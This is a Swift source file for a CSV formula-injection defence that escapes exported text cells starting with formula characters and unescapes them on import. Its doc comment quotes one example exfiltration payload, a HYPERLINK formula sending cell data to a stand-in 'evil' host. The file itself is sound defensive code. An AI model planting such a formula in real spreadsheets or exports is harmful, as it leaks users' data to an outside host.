/// CSV injection (OWASP, "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return as a formula, so an exported text such as
/// `=HYPERLINK("http://evil/?"&A1)` would run when the file is opened. Export writes such text
/// with a `'` in front, which spreadsheets read as "this is text"; import takes it off again, so
/// the escaped file reads back as the values exported.
///
/// Only text is escaped. A JSON number such as `-3` is written bare: a spreadsheet reads it as a
/// number, not a formula (a number's text is digits, sign, point and exponent only, so it cannot
/// hold a call), and escaping it would make every negative number text in the spreadsheet.
///
/// Text that already starts with `'` and then one of those characters (`'=x`) gets one more `'`
/// (`''=x`), so import, which takes off exactly one, gives back what was exported.
///
/// ```swift
/// CSVFormulaEscape.escaped("=SUM(A1:A9)")    // "'=SUM(A1:A9)"
/// CSVFormulaEscape.unescaped("'=SUM(A1:A9)") // "=SUM(A1:A9)"
/// CSVFormulaEscape.unescaped("'hello")       // nil: not an escape, the cell is kept as it is
/// ```
public enum CSVFormulaEscape {
    /// The first characters that make a spreadsheet read a cell as a formula.
    static let formulaStarts: Set<UInt8> = [
        UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D,
    ]

    /// Whether `text`, past any `'` it starts with, starts with a formula character.
    static func needsEscape(_ text: Substring) -> Bool {
        guard let first = text.utf8.first(where: { $0 != UInt8(ascii: "'") }) else { return false }
        return formulaStarts.contains(first)
    }

    /// `text` as export writes it: with a `'` in front when it needs one.
    public static func escaped(_ text: String) -> String {
        needsEscape(text[...]) ? "'" + text : text
    }

    /// The text an escaped cell stands for, or nil when `cell` is not one export escaped
    /// (it does not start with `'` followed by what `escaped` puts a `'` in front of).
    public static func unescaped(_ cell: String) -> String? {
        guard cell.utf8.first == UInt8(ascii: "'") else { return nil }
        let rest = cell.dropFirst()
        return needsEscape(rest) ? String(rest) : nil
    }
}
